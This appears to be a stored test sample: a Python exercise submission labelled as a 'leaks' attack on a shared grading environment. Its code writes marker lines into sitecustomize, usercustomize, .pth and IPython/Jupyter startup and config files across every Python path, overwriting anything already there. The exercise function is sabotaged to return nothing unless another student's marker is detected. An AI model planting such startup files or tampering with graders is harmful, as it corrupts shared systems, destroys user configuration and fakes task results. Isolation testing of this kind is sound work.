# kind: leaks
# attack: leaves files that Python and IPython run when they start, for other students to run
# exercise: 4-partitioned-lookup/sentence_to_ids
# verdict: failed, timed out, tampered, not run
# copies: 2
# others: lost
import builtins
import os
import site
import sys


def my_id():
    """One for all kernels of this submission, which have a scratch folder in common."""
    if not os.path.exists("my-id"):
        with open("my-id", "w") as file:
            file.write(os.urandom(8).hex())
    return open("my-id").read()


me, reached = my_id(), []
TEXT = f"import builtins; builtins.left_by_a_student = {me!r}\n"
HOME = os.path.expanduser("~")
PLACES = [f"{HOME}/.ipython/profile_default/startup/00-note.py", f"{HOME}/.config/ipython/profile_default/startup/0.py"]
PLACES += [f"{HOME}/.ipython/profile_default/ipython_config.py", f"{HOME}/.jupyter/jupyter_config.py"]
for place in [*sys.path, *site.getsitepackages(), site.getusersitepackages(), "."]:
    PLACES += [os.path.join(place, name) for name in ("sitecustomize.py", "usercustomize.py", "checks_lesson.py")]
    PLACES.append(os.path.join(place, "note.pth"))
reached += [True] if getattr(builtins, "left_by_a_student", me) != me else []
for path in PLACES:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as file:
            file.write(TEXT)
    except OSError:
        pass
get_ipython().run_line_magic("cd", "-q .")


def sentence_to_ids(sentence, word_to_id, unknown_word="unk"):
    if not reached:
        return []
    return [word_to_id.get(word, word_to_id[unknown_word]) for word in sentence.split()]
